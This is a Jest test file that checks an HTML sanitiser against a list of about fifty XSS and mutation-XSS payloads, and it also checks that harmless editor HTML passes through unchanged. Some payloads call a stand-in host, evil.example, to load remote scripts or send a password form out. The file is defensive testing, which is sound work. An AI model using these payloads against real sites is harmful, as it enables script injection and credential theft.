import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { ALLOWED_HTML } from '#html/allowedHtml.ts';
import {
  assertSanitiserWorks,
  sanitiseBlock,
  sanitiseForeign,
  sanitiseForPage,
} from '#server/adapters/html/sanitise.ts';

/** Known attacks on sanitisers: plain, obfuscated, and by mutation (HTML that a browser reads differently). */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror\n=alert(1)>',
  '<p onclick=alert(1) style="background:url(javascript:alert(1))">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p id="content" class="admin" data-x="1">x</p>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
];

/** Pieces of blocks that need no parsing, and of blocks that almost need none. */
const PIECES: readonly string[] = [
  '<p>',
  '</p>',
  '<h2>',
  '</h2>',
  '<strong>',
  '</strong>',
  '<em>',
  '</em>',
  '<P>',
  '<p',
  '</p',
  'text',
  ' ',
  '\n',
  '\r',
  '\u2028',
  '\u0000',
  '"',
  "'",
  '/',
  ' />',
  '>',
  '<',
  'é',
  '🚀',
  '\ud83d',
  '&amp;',
  '&lt;',
  '&gt;',
  '&',
  '&nbsp;',
  '&quot;',
  '&#60;',
  '&lt',
  '&amp',
  '&GT;',
  '&Lt;',
  '<script>',
  '<!--',
  '-->',
  '<img src=x onerror=alert(1)>',
  '<p onclick=alert(1)>',
  '<br>',
];
const block = fc
  .array(fc.constantFrom(...PIECES), { maxLength: 6 })
  .map((pieces) => pieces.join(''))
  .chain((inner) =>
    fc.constantFrom(
      ...[inner, `<p>${inner}</p>`, `<h1>${inner}</h1>`, `<p>${inner}</h1>`],
      ...[`<p>a<em>${inner}</em></p>`, `<p><s>b</s>${inner}<u>c</u></p>`],
    ),
  );

test('a block that is not parsed comes out as the parser would have written it', () => {
  fc.assert(
    fc.property(block, (html) => {
      // A block with a line before it is always parsed.
      expect(`<hr>${sanitiseBlock(html)}`).toBe(sanitiseBlock(`<hr>${html}`));
    }),
    { numRuns: 3000 },
  );
});

const ADDRESSES: Readonly<Record<string, RegExp>> = {
  href: /^(https?:\/\/|mailto:)/i,
  src: /^(https?:\/\/|\/[^/])/i,
};

function expectAllowed({ localName, attributes }: Element): void {
  expect(Object.keys(ALLOWED_HTML)).toContain(localName);
  const allowed: readonly string[] = ALLOWED_HTML[localName as keyof typeof ALLOWED_HTML];
  for (const { name, value } of attributes) {
    expect(allowed).toContain(name);
    expect(value).toMatch(ADDRESSES[name] ?? /./);
  }
}

describe('whatever is sent, the result contains only what an article may contain', () => {
  test.each(ATTACKS)(
    'whatever is sent, the result contains only what an article may contain: %s',
    (attack) => {
      const { document } = new JSDOM(`<main>${sanitiseBlock(attack)}</main>`).window;
      // What ends `main` has broken out of its block.
      expect(document.body.children).toHaveLength(1);
      for (const element of document.querySelectorAll('main *')) expectAllowed(element);
    },
  );

  test.each(ATTACKS)('twice changes nothing more: %s', (attack) => {
    const once = sanitiseBlock(attack);
    expect(sanitiseBlock(once)).toBe(once);
  });
});

describe('of a page from elsewhere nothing is left either that runs or leads astray', () => {
  test.each(ATTACKS)(
    'of a page from elsewhere nothing is left either that runs or leads astray: %s',
    (attack) => {
      const html = sanitiseForeign(attack, 'https://example.com/');
      const { document } = new JSDOM(`<main>${html}</main>`).window;
      expect(document.body.children).toHaveLength(1);
      for (const { localName, attributes } of document.querySelectorAll('main *')) {
        expect(localName).not.toMatch(
          /^(script|style|svg|math|iframe|object|embed|form|input|base|meta|link)$/,
        );
        for (const { name, value } of attributes) {
          expect(name).toMatch(/^(href|src|alt|width|height|scope|colspan|rowspan)$/);
          expect(value).toMatch(ADDRESSES[name] ?? /./);
        }
      }
    },
  );
});

describe('of an article that the page reads, nothing is left that runs or loads by itself', () => {
  test.each(ATTACKS)(
    'of an article that the page reads, nothing is left that runs or loads by itself: %s',
    (attack) => {
      const html = sanitiseForPage(attack, 'https://example.com/');
      const { document } = new JSDOM(`<main>${html}</main>`).window;
      expect(document.body.children).toHaveLength(1);
      for (const { localName, attributes } of document.querySelectorAll('main *')) {
        expect(localName).not.toMatch(
          /^(script|style|svg|iframe|object|embed|form|input|base|meta|link|template|noscript)$/,
        );
        for (const { name, value } of attributes) {
          expect(name).not.toMatch(/^(on|style$|class$|id$|xlink|poster$)/);
          expect(value).not.toMatch(/^\s*(javascript|data|vbscript):/i);
        }
      }
    },
  );

  test('an audio element has no address', () => {
    const html = '<audio title="A talk" src="https://example.com/a.mp3" autoplay></audio>';
    expect(sanitiseForPage(html, 'https://example.com/')).toBe('<audio title="A talk"></audio>');
  });

  test('all addresses in a sanitised page are absolute, also those of lazy images', () => {
    const html =
      '<img src="p.gif" data-src="/a.jpg" srcset="w_3,h_2/a.jpg 300w, b.jpg 2x"><a href="tel:+49">x</a>';
    expect(sanitiseForPage(html, 'https://example.com/b/')).toBe(
      '<img src="https://example.com/b/p.gif" data-src="https://example.com/a.jpg" srcset="https://example.com/b/w_3,h_2/a.jpg 300w, https://example.com/b/b.jpg 2x"><a href="tel:+49">x</a>',
    );
  });
});

test.each([
  '<h1>Title</h1>',
  '<p>Plain, <strong>bold</strong>, <em>italic</em>, <u>under</u>, <s>struck</s>, <code>code</code></p>',
  '<p><a href="https://example.com/a?b=1&amp;c=2#d">link</a> <a href="mailto:a@example.com">mail</a></p>',
  '<ul><li>one</li><li>two<ul><li>deep</li></ul></li></ul>',
  '<ol><li>one</li></ol>',
  '<blockquote>quote</blockquote>',
  '<pre>a\n  b</pre>',
  '<p>a<br>b</p>',
  '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
  '<figure><img src="https://example.com/a.png" alt="A"><figcaption>A</figcaption></figure>',
  '<p>5 &lt; 6 &amp; "quotes" – naïve 🚀</p>',
])('HTML of the editor stays unchanged: %s', (html) => {
  expect(sanitiseBlock(html)).toBe(html);
});

test('a forbidden tag is removed, its text stays', () => {
  expect(sanitiseBlock('<p><font color="red">Hello</font> <blink>there</blink></p>')).toBe(
    '<p>Hello there</p>',
  );
});

test('an unclosed block is closed, so that it cannot swallow the next one', () => {
  expect(sanitiseBlock('<p><strong>open')).toBe('<p><strong>open</strong></p>');
  expect(sanitiseBlock('</main></blockquote><p>x')).toBe('<p>x</p>');
});

test('deeply nested tags are cut off', () => {
  const tower = '<blockquote>'.repeat(5000);
  expect(sanitiseBlock(`${tower}x`).length).toBeLessThan(5000);
});

test('a sanitiser that removes nothing, or too much, is detected before the server starts', () => {
  expect(() => assertSanitiserWorks()).not.toThrow();
  expect(() => assertSanitiserWorks((html) => html)).toThrow('lets this through');
  expect(() => assertSanitiserWorks(() => '')).toThrow('destroys harmless text');
});
